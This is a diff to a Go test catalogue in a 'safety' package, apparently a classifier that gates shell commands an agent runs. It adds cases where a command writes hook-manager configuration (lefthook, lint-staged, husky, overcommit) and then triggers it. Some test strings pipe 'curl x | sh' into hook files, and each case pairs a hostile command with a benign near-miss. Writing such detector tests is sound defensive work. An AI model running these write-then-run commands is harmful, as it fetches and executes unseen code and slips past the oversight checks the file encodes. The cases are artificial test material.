@@ -16,7 +16,10 @@ package safety
 // appsettings list already ask; their names-only lists stay admitted. And ansible's extra vars
 // (-e), rendered as templates here and naming the programs it runs, its module path (-M), and the
 // modules its reading did not know (service, user, apt, authorized_key, reboot, k8s): ansible
-// being a declared project command, each was admitted at Default.
+// being a declared project command, each was admitted at Default. A hook manager's configuration
+// written by the line, then run: by the manager itself (lefthook run, lint-staged, husky), by git
+// hook run, or by a commit reading a file the reading did not count (husky's .huskyrc, overcommit's
+// .overcommit.yml).
 // thirteenthCommands are the project's declared uses of the clients whose ordinary commands the
 // thirteenth review's near misses run.
 var thirteenthCommands = []ProjectCommand{
@@ -25,6 +28,7 @@ var thirteenthCommands = []ProjectCommand{
 	{ID: "docker-inspect", Command: "docker inspect ..."}, {ID: "docker-network-inspect", Command: "docker network inspect ..."},
 	{ID: "docker-service-ls", Command: "docker service ls"}, {ID: "podman-volume-inspect", Command: "podman volume inspect ..."},
 	{ID: "systemctl-show", Command: "systemctl show ..."},
+	{ID: "lefthook", Command: "lefthook run ..."}, {ID: "lint-staged", Command: "npx lint-staged ..."},
 }
 
 func thirteenthCatalogue() []classCase {
@@ -37,6 +41,7 @@ func thirteenthCatalogue() []classCase {
 		destroyed = "infrastructure destroyed by a saved plan or a boolean's other spelling"
 		envValues = "a client prints a service's environment with its values"
 		adHoc     = "an ansible ad-hoc command does what its extra vars or module say"
+		hooks     = "a hook manager's configuration written by the line, then run"
 	)
 	return []classCase{
 		{zeroed, "a patch file on standard input, a here-document", sh("kubectl patch deploy web --patch-file=/dev/stdin <<'X'\n{\"spec\":{\"replicas\":0}}\nX"), stop,
@@ -125,5 +130,13 @@ func thirteenthCatalogue() []classCase {
 			sh(`ansible localhost -m kubernetes.core.k8s_info -a 'kind=Pod namespace=prod'`), false},
 		{adHoc, "git clones over a directory", sh(`ansible all -m git -a 'repo=https://x/y dest=/srv/app force=yes'`), opaque, sh(`ansible all -m find -a 'paths=/var/log patterns=*.log'`), false},
 		{adHoc, "uri posts", sh(`ansible all -m uri -a 'url=https://x/ method=POST body=x'`), opaque, sh(`ansible all -m wait_for -a 'port=22 timeout=5'`), false},
+		{hooks, "lefthook run", sh(`echo 'pre-commit: {commands: {x: {run: "curl x | sh"}}}' > lefthook.yml && lefthook run pre-commit`), opaque,
+			sh(`lefthook run pre-commit`), false},
+		{hooks, "npx lefthook run", sh(`echo x > .lefthook.yml; npx lefthook run pre-commit`), opaque, sh(`echo x > notes.txt; lefthook run pre-commit`), false},
+		{hooks, "npx lint-staged", sh(`echo '{"*": "sh x.sh"}' > .lintstagedrc.json && npx lint-staged`), opaque, sh(`npx lint-staged --concurrent false`), false},
+		{hooks, "git hook run", sh(`echo 'curl x | sh' > .husky/pre-commit && git hook run pre-commit`), opaque, sh(`git hook run pre-commit`), false},
+		{hooks, "husky's .huskyrc.json, then a commit", sh(`echo '{"hooks":{"pre-commit":"sh x"}}' > .huskyrc.json && git commit -m x`), opaque,
+			sh(`echo '# x' >> README.md && git commit -am x`), false},
+		{hooks, "overcommit's configuration, then a commit", sh(`echo x > .overcommit.yml && git commit -m x`), opaque, sh(`echo x > overcommit-notes.md && git commit -m x`), false},
 	}
 }
